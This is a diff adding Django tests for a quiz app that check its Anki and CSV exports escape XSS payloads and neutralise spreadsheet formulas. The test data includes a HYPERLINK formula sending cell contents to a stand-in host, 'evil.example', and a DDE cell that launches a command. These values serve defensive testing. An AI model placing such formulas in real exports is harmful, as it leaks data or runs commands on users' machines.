@@ -3,7 +3,9 @@ runs in the worker (django-tasks-db's DatabaseBackend, the worker run here in ba
 how far it got. Also the exports: an Anki deck with stable note ids, CSV, a bank's markdown."""
 
 import csv
+import html
 import io
+import json
 import sqlite3
 import stat
 import tempfile
@@ -20,7 +22,7 @@ from django.core.management import call_command
 from django.test import Client
 from django.utils import timezone
 
-from quiz import bank_imports, importer
+from quiz import bank_imports, decks, importer
 from quiz.models import Bank, BankUpload, Grade, MockInterview, Question, Section
 from tests.test_xss import PAYLOADS, _plain_like, live_markup, page_nonce
 
@@ -490,3 +492,52 @@ def test_an_update_that_only_adds_asks_no_confirmation(team_bank):
     assert "adds 1 question, changes 0 and retires 0." in page and 'name="confirm"' not in page
     clerk.post(f"{detail}import/")
     assert BankUpload.objects.get().status == BankUpload.Status.QUEUED
+
+
+# -- exports are safe for the program that opens them (issue 22.5, 22.6)
+
+
+def anki_deck_names(apkg: bytes) -> list[str]:
+    with zipfile.ZipFile(io.BytesIO(apkg)) as archive, tempfile.NamedTemporaryFile() as handle:
+        handle.write(archive.read("collection.anki2"))
+        handle.flush()
+        (decks,) = sqlite3.connect(handle.name).execute("select decks from col").fetchone()
+    return [deck["name"] for deck in json.loads(decks).values()]
+
+
+def test_the_xss_corpus_in_bank_toml_reaches_the_anki_deck_only_escaped(db):
+    team = {k.removeprefix("team/"): v for k, v in TEAM.items() if k != "team/notes.txt"}
+    bank_imports.import_bank("team", team, reason="test")
+    questions = Question.objects.filter(section__bank__slug="team").select_related("section__bank")
+    section = questions[0].section
+    for payload in PAYLOADS:
+        # Through bank.toml as an uploaded bank's title arrives, and as a section's title.
+        title = importer.read_manifest(f"title = {json.dumps(payload)}\n").title
+        assert title == payload.strip() or title == payload
+        Bank.objects.filter(slug="team").update(title=title)
+        Section.objects.filter(pk=section.pk).update(title=payload)
+        chosen = questions.filter(section=section)
+        apkg = decks.anki_deck(title, chosen)
+        notes = anki_notes(apkg)
+        for fields, _tags in notes.values():
+            source = fields[3]
+            assert source == html.escape(f"{title}: {payload}")
+            assert "<" not in source and ">" not in source
+        assert html.escape(title) in anki_deck_names(apkg)
+        assert not any("<" in name for name in anki_deck_names(apkg))
+
+
+def test_the_question_csv_neutralises_formulas_in_every_cell(client_in, team_bank):
+    question = Question.objects.get(prompt_md="What is a join?")
+    Question.objects.filter(pk=question.pk).update(
+        prompt_md="@SUM(A1:A9)", answer_md='=HYPERLINK("https://evil.example/?"&A1, "Click")'
+    )
+    Section.objects.filter(pk=question.section_id).update(title="+cmd|' /C calc'!A0")
+    response = client_in.get("/questions/export/", {"bank": "team", "format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    row = next(r for r in rows if r["key"] == question.key)
+    assert row["question"] == "'@SUM(A1:A9)"
+    assert row["answer"] == '\'=HYPERLINK("https://evil.example/?"&A1, "Click")'
+    assert row["section"] == "'+cmd|' /C calc'!A0"
+    for cell in (c for r in rows for c in r.values()):
+        assert cell[:1] not in ("=", "+", "-", "@")
